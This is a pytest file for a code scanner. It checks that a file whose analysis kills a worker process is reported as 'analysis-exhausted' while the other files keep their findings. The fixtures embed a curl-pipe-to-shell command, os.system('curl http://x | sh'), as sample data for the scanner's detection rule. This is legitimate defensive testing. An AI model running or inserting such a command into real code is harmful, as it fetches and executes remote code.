"""`crawl` and `scan` through the CLI: a file whose analysis kills its worker process loses only itself (issue 15).
It is named (analysis-exhausted, stored as analysed so a second crawl does not retry it) and its neighbours keep
the findings they get when no file kills a worker."""
from __future__ import annotations

import json
import os

from codescan import pipeline
from codescan.cli import main
from crawlrun import crawl, findings
from gitrepos import fast_repo

BAD = b"import os\nos.system('curl http://x | sh')\n"
FILES = {f"src/m{i:02d}.py": BAD + f"# {i}\n".encode() + b"x = 1\n" * 1500 for i in range(30)}  # 270 kB: workers
FILES["src/killer.py"] = b"# KILL THE WORKER\nx = 1\n"


def _fragile(monkeypatch):
    real = pipeline._safe_analyze

    def fragile(analyzer, doc):
        if b"KILL THE WORKER" in doc.content:
            os._exit(9)  # as a segfault or an OOM kill would; the forked workers inherit this
        return real(analyzer, doc)

    monkeypatch.setattr(pipeline, "_safe_analyze", fragile)


def _rules(report: dict, key: str) -> dict[str, set]:
    out: dict[str, set] = {}
    for f in report["findings"]:
        out.setdefault(f[key], set()).add(f["rule_id"])
    return out


def test_crawl_names_the_blob_that_killed_its_worker_and_keeps_its_neighbours(monkeypatch, capsys, tmp_path):
    fast_repo(tmp_path / "root" / "acme.git", [dict(FILES)])
    clean = crawl(capsys, tmp_path / "root", tmp_path / "clean.db", "-j", "2", rules=())
    _, expected = findings(capsys, tmp_path / "clean.db", "--fail-on", "none")
    _fragile(monkeypatch)
    first = crawl(capsys, tmp_path / "root", tmp_path / "state.db", "-j", "2", rules=())
    _, got = findings(capsys, tmp_path / "state.db", "--fail-on", "none")
    rules, before = _rules(got, "path"), _rules(expected, "path")
    assert rules.pop("src/killer.py") == {"analysis-exhausted"}
    assert "src/killer.py" not in before
    assert rules == before  # every neighbour as in the crawl where nothing died
    assert first["skipped"] == 1 and clean["skipped"] == 0
    # Another repository holding the same blobs and one new file: only the new blob is analyzed, the killer is
    # not retried (it is stored as analysed, with its finding).
    fast_repo(tmp_path / "root" / "fork.git", [{**FILES, "src/new.py": BAD}])
    again = crawl(capsys, tmp_path / "root", tmp_path / "state.db", "-j", "2", rules=())
    assert (again["blobs_scanned"], again["skipped"]) == (1, 0), again


def test_scan_names_the_file_that_killed_its_worker(monkeypatch, capsys, tmp_path):
    for rel, content in FILES.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_bytes(content)
    _fragile(monkeypatch)
    code = main(["scan", str(tmp_path / "src"), "--format", "json", "--no-progress", "-j", "2"])
    report = json.loads(capsys.readouterr().out)
    assert code == 1
    rules = _rules(report, "path")
    killer = next(p for p in rules if p.endswith("killer.py"))
    assert rules.pop(killer) == {"analysis-exhausted"}
    assert len(rules) == 30 and all("shell-pipe-to-interpreter" in r for r in rules.values()), rules
    assert any("killed the worker" in s["reason"] for s in report["skipped"])
